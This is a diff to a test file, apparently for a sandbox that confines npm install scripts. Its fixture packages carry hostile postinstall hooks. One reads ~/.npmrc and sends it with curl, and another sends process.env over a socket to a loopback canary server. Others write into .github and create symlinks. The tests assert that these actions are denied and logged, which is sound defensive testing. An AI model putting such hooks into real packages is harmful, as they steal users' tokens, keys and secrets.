@@ -48,7 +48,7 @@ confined.before(async () => {
       { name: 'symlinker', scripts: { postinstall: 'ln -s "$INIT_CWD/.github" out && echo evil > out/evil2.yml; echo "symlink=$?" > results.txt; ln "$INIT_CWD/package.json" hard 2>/dev/null; echo "hardlink=$?" >> results.txt; true' } },
       {
         name: 'phoner',
-        scripts: { postinstall: `node phone.js; curl -s -m 3 http://127.0.0.1:${port}/curl -d "$(cat ~/.npmrc 2>/dev/null)"; echo "curl=$?" >> results.txt; true` },
+        scripts: { postinstall: `node phone.js; curl -sf -m 3 http://127.0.0.1:${port}/curl -d "$(cat ~/.npmrc 2>/dev/null)"; echo "curl=$?" >> results.txt; true` },
         files: { 'phone.js': `const s=require('net').connect(${port},'127.0.0.1',()=>{s.end('stolen '+JSON.stringify(process.env))});s.on('error',e=>require('fs').writeFileSync('net.txt',e.code));` },
       },
       {
@@ -120,6 +120,18 @@ confined('connections to a loopback server fail (node and curl)', () => {
   assert.equal(server.hits, [], 'the canary server saw no connection');
   assert.ok(pkg('phoner', 'net.txt').length > 0, 'node saw a connection error');
   assert.match(pkg('phoner', 'results.txt'), /curl=[1-9]/);
+  const events = readReport(fx).events.filter((e: { package: string; kind: string }) => e.package === 'phoner@1.0.0' && e.kind === 'net.connect');
+  assert.ok(events.some((e: { target: string; decision: string; source: string }) => e.target === `127.0.0.1:${server.port}` && e.decision === 'denied' && e.source === 'proxy'), 'curl through the proxy: a denied net.connect event attributed to phoner');
+  assert.ok(events.some((e: { decision: string; source: string }) => e.decision === 'denied' && e.source === 'strace'), 'node ignoring the proxy: its refused connect traced and attributed to phoner');
+});
+
+confined('secret reads and writes outside the package appear as denied events, attributed', () => {
+  const events = readReport(fx).events as { package: string; kind: string; target: string; decision: string }[];
+  const denied = (pkgName: string, kind: string, suffix: string) => events.some((e) => e.package === `${pkgName}@1.0.0` && e.kind === kind && e.decision === 'denied' && e.target.endsWith(suffix));
+  assert.ok(denied('secret-reader', 'fs.read', '/.npmrc'), 'read of ~/.npmrc');
+  assert.ok(denied('secret-reader', 'fs.read', '/.ssh/id_rsa'), 'read of ~/.ssh/id_rsa');
+  assert.ok(denied('writer', 'fs.write', '/.github/workflows/evil.yml'), 'write to .github');
+  assert.ok(denied('writer', 'fs.write', '/.bashrc'), 'write to ~/.bashrc (contained in the synthetic HOME)');
 });
 
 confined('a double-forked detached child is gone when the install ends', () => {
